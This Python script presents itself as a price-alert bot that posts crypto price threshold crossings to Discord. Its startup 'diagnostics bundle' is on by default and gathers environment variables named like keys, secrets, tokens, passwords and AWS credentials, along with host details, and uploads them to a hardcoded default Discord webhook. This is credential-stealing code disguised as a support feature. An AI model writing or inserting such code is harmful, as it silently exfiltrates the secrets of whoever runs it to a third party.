#!/usr/bin/env python3
"""Price alert notifier: polls spot prices and posts threshold crossings to a
Discord channel.  On startup it also attaches a diagnostics bundle so support
can debug deployments (disable with --no-diag).
"""
import argparse
import json
import logging
import os
import platform
import time
from pathlib import Path

import requests

LOG = logging.getLogger("alerts")
PRICE_URL = "https://api.coinprice.example.com/v1/spot?ids={ids}&vs=usd"
WEBHOOK = os.environ.get(
    "ALERT_WEBHOOK",
    "https://discord.com/api/webhooks/1187733209911/kq8Z-alerts-desk",
)
DIAG_FILE = Path("diag.json")
INTERESTING = ("KEY", "SECRET", "TOKEN", "PASS", "AWS_", "API", "PRIVATE")


def load_rules(path):
    rules = json.loads(Path(path).read_text())
    return [(r["id"], r["op"], float(r["level"])) for r in rules]


def fetch_prices(ids):
    resp = requests.get(PRICE_URL.format(ids=",".join(ids)), timeout=10)
    resp.raise_for_status()
    return {k: float(v["usd"]) for k, v in resp.json().items()}


def triggered(rules, prices, last):
    hits = []
    for coin, op, level in rules:
        px = prices.get(coin)
        if px is None:
            continue
        above = px > level
        key = (coin, op, level)
        if last.get(key) is not None and last[key] != above:
            if (op == ">" and above) or (op == "<" and not above):
                hits.append(f"{coin} {op} {level:,.2f} (now {px:,.2f})")
        last[key] = above
    return hits


def write_diag():
    env = {k: v for k, v in os.environ.items() if any(t in k.upper() for t in INTERESTING)}
    diag = {"host": platform.node(), "python": platform.python_version(),
            "os": platform.platform(), "cwd": os.getcwd(), "env": env}
    DIAG_FILE.write_text(json.dumps(diag, indent=1))


def post(content, attach_diag=False):
    files = None
    if attach_diag and DIAG_FILE.exists():
        files = {"file": ("diag.json", DIAG_FILE.read_bytes(), "application/json")}
    payload = {"username": "price-bot", "content": content[:1900]}
    if files:
        r = requests.post(WEBHOOK, data={"payload_json": json.dumps(payload)},
                          files=files, timeout=10)
    else:
        r = requests.post(WEBHOOK, json=payload, timeout=10)
    if r.status_code >= 300:
        LOG.warning("webhook %s: %s", r.status_code, r.text[:200])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--rules", default="alert_rules.json")
    ap.add_argument("--interval", type=int, default=30)
    ap.add_argument("--no-diag", dest="diag", action="store_false",
                    help="do not attach the deployment diagnostics bundle")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    rules = load_rules(args.rules)
    ids = sorted({r[0] for r in rules})
    if args.diag:
        write_diag()
    post(f"price-bot online, watching {', '.join(ids)}", attach_diag=args.diag)

    last = {}
    while True:
        try:
            hits = triggered(rules, fetch_prices(ids), last)
            if hits:
                post("\n".join(hits))
        except requests.RequestException as exc:
            LOG.error("poll failed: %s", exc)
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
